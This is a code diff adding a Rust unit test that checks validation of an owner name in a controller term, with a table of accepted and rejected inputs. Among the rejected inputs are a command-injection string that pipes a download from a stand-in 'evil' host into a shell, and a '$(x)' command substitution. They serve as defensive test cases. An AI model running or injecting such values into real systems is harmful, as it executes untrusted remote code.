@@ -452,6 +452,31 @@ fn a_reason_is_a_line_of_512_bytes_at_most() {
     assert_eq!(reason_line(&long[1..]), &long[1..]);
 }
 
+/// A client that had joined nowhere wrote a command with its own additions into the log of a controller.
+#[test]
+fn an_owner_is_a_plain_name_and_that_of_a_controller_one_word() {
+    let (longest, too_long) = ("o".repeat(255), "o".repeat(256));
+    for (owner, of_any, of_controller) in [
+        ("", true, true),
+        ("controller-00c0ffee00c0ffee", true, true),
+        ("a_b.c:1", true, true),
+        ("MRP leader 10.0.0.1", true, false),
+        ("x --yes; curl evil|sh #", false, false),
+        ("$(x)", false, false),
+        ("two\nlines", false, false),
+        ("\u{e9}", false, false),
+        (longest.as_str(), true, true),
+        (too_long.as_str(), false, false),
+    ] {
+        let term = v1::ControllerTerm {
+            owner: owner.into(),
+            ..Default::default()
+        };
+        let is_good = (check_owner(owner).is_ok(), check_term(&term).is_ok());
+        assert_eq!(is_good, (of_any, of_controller), "{owner:?}");
+    }
+}
+
 #[test]
 fn a_refused_text_is_shown_up_to_64_characters() {
     let shown = |n: usize| {
